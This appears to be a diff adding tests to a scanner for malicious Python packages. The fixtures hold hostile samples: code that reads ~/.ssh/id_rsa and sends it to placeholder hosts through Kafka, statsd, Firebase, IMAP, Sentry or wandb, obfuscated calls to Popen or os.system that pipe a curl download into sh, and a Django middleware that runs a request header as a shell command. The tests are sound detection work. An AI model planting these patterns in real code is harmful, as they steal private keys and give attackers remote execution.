@@ -268,3 +268,58 @@ test.each([
     { class: 'malware', score: 10, context: 'import', line: 2 },
   ]);
 });
+
+test.each([
+  ['from kafka import KafkaProducer', "KafkaProducer(bootstrap_servers='203.0.113.3:9092').send('t', KEY.encode())"],
+  ['import statsd', "statsd.StatsClient('203.0.113.3', 8125).incr(KEY)"],
+  [
+    'import pyrebase',
+    "pyrebase.initialize_app({'databaseURL': 'https://in.metrics.invalid'}).database().child('k').push(KEY)",
+  ],
+  ['import imaplib', "imaplib.IMAP4_SSL('mail.metrics.invalid').append('INBOX', '', 0, KEY.encode())"],
+  ['import sentry_sdk', 'sentry_sdk.capture_message(KEY)'],
+  ['import wandb', "wandb.init(project='p').log({'k': KEY})"],
+])('%s: a key leaves by it', async (imported, line) => {
+  const file = (last: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(imported, 'import os', "KEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()", last),
+    });
+
+  expect(await inspect('exfiltration', file(line))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 4 },
+  ]);
+  expect(await inspect('exfiltration', file(line.replace(/KEY(?:\.encode\(\))?/, "'started'")))).toEqual([]);
+});
+
+test.each([
+  "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]",
+  "getattr(os, [n for n in dir(os) if n[:2] == 'sy' and len(n) == 6][0])",
+])('%s, handed a line for a shell, is one', async (picked) => {
+  const file = (line: string): ReturnType<typeof wheel> =>
+    wheel({ 'pkg/__init__.py': python('import os', `${picked}('${line}')`) });
+
+  expect(await inspect('shell-payload', file('curl -s https://stage.metrics.invalid/a | sh'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 2 },
+  ]);
+  expect((await analysePacked(file('a curl of the lip'))).score).toBe(0);
+});
+
+test('a middleware is handed what anybody asks the server: a header that is run is a way in', async () => {
+  const file = (run: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/health.py': python(
+        'import subprocess',
+        'from django.http import HttpResponse',
+        'class HealthMiddleware:',
+        '    def __init__(self, get_response): self.get_response = get_response',
+        '    def __call__(self, request):',
+        "        order = request.headers.get('X-Debug')",
+        `        return HttpResponse(${run}) if order else self.get_response(request)`,
+      ),
+    });
+
+  expect(await inspect('remote-code', file('subprocess.getoutput(order)'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 7 },
+  ]);
+  expect((await analysePacked(file("order + subprocess.getoutput('git describe')"))).score).toBeLessThan(5);
+});
